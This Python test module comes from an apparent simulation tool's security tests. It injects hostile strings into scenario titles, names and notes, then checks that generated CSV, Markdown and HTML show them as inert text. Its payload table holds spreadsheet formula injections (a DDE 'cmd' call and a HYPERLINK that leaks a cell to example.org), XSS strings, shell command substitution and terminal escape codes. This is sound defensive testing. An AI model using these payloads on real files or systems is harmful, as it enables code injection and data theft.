"""Hostile texts: what a name or a title says is shown as a text, wherever it comes out."""

from __future__ import annotations

import csv
import html.parser
import re
from pathlib import Path
from typing import Any

from .catalogue import Attack, Broken, Code, Do, Trial
from .ground import Ground
from .making import file
from .warm import Ended

PAYLOADS = {
    "a formula": "=1+1",
    "a formula that calls": '=cmd|"/C calc"!A0',
    "a formula by plus": "+1+1",
    "a formula by minus": "-2+3",
    "a formula by at": "@SUM(A1)",
    "a formula after a tab": "\t=1+1",
    "a formula after a line break": "\r=1+1",
    "a formula, wide": "＝1+1",
    "a link": '=HYPERLINK("http://example.org/?"&A1,"x")',
    "HTML": "<script>alert(1)</script>",
    "HTML that closes": "</title></style></script><img src=x onerror=alert(1)>",
    "an attribute": '" onmouseover="alert(1)',
    "an attribute with another quote": "' autofocus onfocus=alert(1) x='",
    "a base": '<base href="https://example.org/">',
    "a form": "<form action=https://example.org><input>",
    "an entity": "&lt;b&gt; &amp; &#x1b;",
    "a template": "{{ 7 * 7 }}{% for x in y %}",
    "a comment": "<!-- --> ]]> -->",
    "Markdown": "[x](javascript:alert(1)) ![y](https://example.org/z.png) | # `code`",
    "escape codes": "\x1b[2J\x1b[31mred\x1b]0;owned\x07",
    "one byte of escape codes": "\x9b31m\x9d0;x\x9c",
    "a backspace": "abc\b\b\bxyz",
    "line breaks": "one\ntwo\r\nthree\u2028four\u2029five\x0bsix",
    "text that runs the other way": "\u202egnp.exe\u202c \u2066x\u2069",
    "marks without letters": "Z\u0351\u036b\u0343\u036a\u0302\u036b" * 20,
    "a NUL": "a\0b",
    "ten thousand letters": "x" * 10_000,
    "ten thousand words": "word " * 2_000,
    "percent signs": "%s %n %(x)s %d",
    "braces": "{0} {name} {0.__class__}",
    "dollars": "$(touch x) `touch x` ${HOME} $\\frac{1}{2}$",
    "quotes": "\"'`“”‘’«»",
    "separators": "a,b;c\td|e",
    "backslashes": "C:\\Users\\x\\n",
    "nothing": " ",
    "a letter beyond sixteen bits": "😀𝔘",
    "half a character": "\ud83d",
}


def quoted(text: str) -> str:
    """A text as TOML."""
    found = []
    for letter in text:
        code = ord(letter)
        plain = 32 <= code < 127 and letter not in '"\\'
        found.append(letter if plain else f"\\u{code:04x}" if code < 0x10000 else f"\\U{code:08x}")
    return '"' + "".join(found) + '"'


def shown_as_text(folder: Path) -> None:
    """Tables, pages and all: no cell is a formula, no name is code, no control character is there."""
    for path in sorted(folder.rglob("*.csv")):
        with path.open(encoding="utf-8", newline="") as rows:
            for row in csv.reader(rows):
                for cell in row:
                    number = re.fullmatch(r"[+-]?\d+(\.\d*)?([eE][+-]?\d+)?", cell)
                    if cell.lstrip(" \t\r\n").startswith(("=", "+", "-", "@", "＝", "＋", "－", "＠")) and not number:
                        raise Broken(f"{path.name} has a formula: {cell[:60]!r}")
    for path in (*sorted(folder.rglob("*.csv")), *sorted(folder.glob("*.md")), *sorted(folder.glob("*.html"))):
        found = set(
            re.findall(
                r"[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]",
                path.read_bytes().decode("utf-8").replace("\r\n", "\n"),
            )
        )
        if found:
            raise Broken(f"{path.name} has control characters: {sorted(found)}")
    if (folder / "report.html").exists():
        page = Page()
        page.feed((folder / "report.html").read_text(encoding="utf-8"))
        if page.faults:
            raise Broken(f"report.html has {', '.join(page.faults[:5])}")


class Page(html.parser.HTMLParser):
    """Looks for what a report must not hold."""

    def __init__(self) -> None:
        super().__init__()
        self.faults: list[str] = []
        self.policy = ""

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        """Elements and attributes that act, or reach outside."""
        if tag in ("script", "base", "form", "iframe", "object", "embed", "input"):
            self.faults.append(f"<{tag}>")
        for name, value in attrs:
            if name.startswith("on") or "javascript:" in (value or "").lower() or name == "autofocus":
                self.faults.append(f"{name}={value}")
            if tag == "img" and name == "src" and not (value or "").startswith(("data:", "figures/")):
                self.faults.append(f"<img src={value}>")
        told = dict(attrs)
        if tag == "meta" and (told.get("http-equiv") or "").lower() == "content-security-policy":
            self.policy = told.get("content") or ""


def looks(ground: Ground, ended: Ended) -> None:
    """What was written shows texts as texts."""
    if ended.code == 0:
        shown_as_text(ground.out)


def in_file(where: str, what: str, text: str, quick: bool) -> Attack:
    """A text in a scenario file: it is refused by check, or shown as a text everywhere."""
    content = {
        "title": f"title = {quoted(text)}\n",
        "summary": f'title = "t"\nsummary = {quoted(text)}\nsource = {quoted(text)}\n',
        "group": f"[groups.{quoted(text)}]\nshare = 0.1\nstake = 0.5\ncloseness = 0.5\ncapability = 0.2\n",
        "front": f"[fronts.{quoted(text)}]\nweight = 0.1\n",
        "note": f'[[events]]\nkind = "truce"\ndate = 2024-01-12\ndays = 2\nfront = "gaza"\nnote = {quoted(text)}\n',
    }[where]
    steps = [
        Do("check {work}/x.toml", exits=(0, 2), lines=8),
        Do("describe {work}/x.toml", exits=(0, 2), lines=8),
        Do("run {work}/x.toml Q --out {out}", exits=(0, 2), lines=8, after=looks),
        Do("explain {work}/x.toml --world 1 --days 5", exits=(0, 2), lines=8),
        Do("diff status_quo {work}/x.toml", exits=(0, 2), lines=8),
        lambda ground: after_check(ground),
    ]
    return Attack("texts", f"{what} as {WHERE[where]}", Trial([file("work/x.toml", content)], steps), quick)


WHERE = {
    "title": "a title",
    "summary": "a summary and a source",
    "group": "the name of a group",
    "front": "the name of a front",
    "note": "the note of an event",
}


def after_check(ground: Ground) -> None:
    """What passed the check could be run."""
    ended = ground.ask(argv=["check", str(ground.at("work/x.toml"))])
    if ended.code == 0 and not (ground.out / "manifest.json").exists():
        raise Broken("It passes the check, and could not be run")


def in_name(what: str, text: str, quick: bool) -> Attack | None:
    """A text as the name of a file, which is the scenario's name."""
    if "\0" in text or "/" in text or len(text.encode("utf-8", "surrogatepass")) > 200:
        return None
    if any(
        0xD800 <= ord(letter) < 0xDC80 or (ord(letter) > 0xDCFF and 0xD800 <= ord(letter) < 0xE000) for letter in text
    ):
        return None
    name = f"{text}.toml"

    def typed(ground: Ground) -> None:
        path = ground.root / "work" / name
        path.write_text("days = 5\n", encoding="utf-8")
        passes = ground.typed(["check", f"./{name}"])
        ran = ground.typed(["run", f"./{name}", *Q, "--out", str(ground.out)])
        if ran.code == 0:
            shown_as_text(ground.out)
        if passes.code != ran.code:
            raise Broken(f"check ends with {passes.code}, the run with {ran.code}: {ran.err[-300:]}")
        ground.typed(["explain", f"./{name}", "--world", "1", "--days", "5"])
        ground.typed(["describe", f"./{name}"])
        ground.typed(["diff", "status_quo", f"./{name}"])

    return Attack("texts", f"{what} as the name of a file", Trial([], [typed]), quick)


def in_python(what: str, text: str) -> Attack:
    """A text as the name of a Scenario that is made in Python: refused with a ValueError, or shown as a text."""
    return Attack(
        "texts",
        f"{what} as the name of a Scenario",
        Trial(
            [lambda ground: (ground.root / "text").write_bytes(text.encode("utf-8", "surrogatepass"))],
            [Code(PYTHON), lambda ground: shown_as_text(ground.out)],
        ),
    )


PYTHON = """
text = Path(root, 'text').read_bytes().decode('utf-8', 'surrogatepass')
try:
    scenario = sim.Scenario(name=text, days=5)
    result = sim.run(scenario, worlds=3, out=out, figures=False)
except ValueError as fault:
    assert str(fault)
else:
    assert len(sim.open(out).worlds) == 3
    print(repr(result).isprintable())
"""
Q = ["--worlds", "3", "--days", "5", "--workers", "1", "--figures", "none", "--quiet"]


def policy(ground: Ground) -> None:
    """The report's policy closes what it does not need."""
    ground.finished("out")
    page = Page()
    page.feed((ground.out / "report.html").read_text(encoding="utf-8"))
    for words in ("default-src 'none'", "base-uri 'none'", "form-action 'none'"):
        if words not in page.policy:
            raise Broken(f"The report's policy does not say {words}: {page.policy!r}")


def errors_are_plain(what: str, words: list[Any]) -> Attack:
    """A wrong word that holds escape codes is told without them."""

    def typed(ground: Ground) -> None:
        ended = ground.typed(words)
        if ended.code != 2:
            raise Broken(f"exit {ended.code}")

    return Attack("texts", f"escape codes in {what}", Trial([], [typed]))


RED = "\x1b[31mred\x1b[2J"
ATTACKS = [
    *(
        in_file(
            where,
            what,
            text,
            quick=(where, what) in {("title", "HTML"), ("group", "a formula"), ("title", "escape codes")},
        )
        for where in WHERE
        for number, (what, text) in enumerate(PAYLOADS.items())
        if where in ("title", "group") or number % 3 == len(where) % 3
    ),
    *(
        one
        for what, text in PAYLOADS.items()
        if (one := in_name(what, text, what in ("a formula", "escape codes"))) is not None
    ),
    *(in_python(what, text) for what, text in PAYLOADS.items()),
    Attack("texts", "the policy of a report", Trial([], [policy]), quick=True),
    *(
        errors_are_plain(what, words)
        for what, words in {
            "a scenario that is not there": ["run", RED],
            "a file that is not there": ["check", f"{RED}.toml"],
            "a command": [RED],
            "an option": ["run", f"--{RED}"],
            "a value": ["run", "--worlds", RED],
            "a setting": ["run", "forced_exit", "--set", f"{RED}=1"],
            "the value of a setting": ["run", "forced_exit", "--set", f"days={RED}"],
            "a folder to explain": ["explain", f"./{RED}", "--world", "1"],
            "a parent": ["new", "x", "--from", RED],
            "a new name": ["new", RED, "--from", "status_quo"],
        }.items()
    ),
]
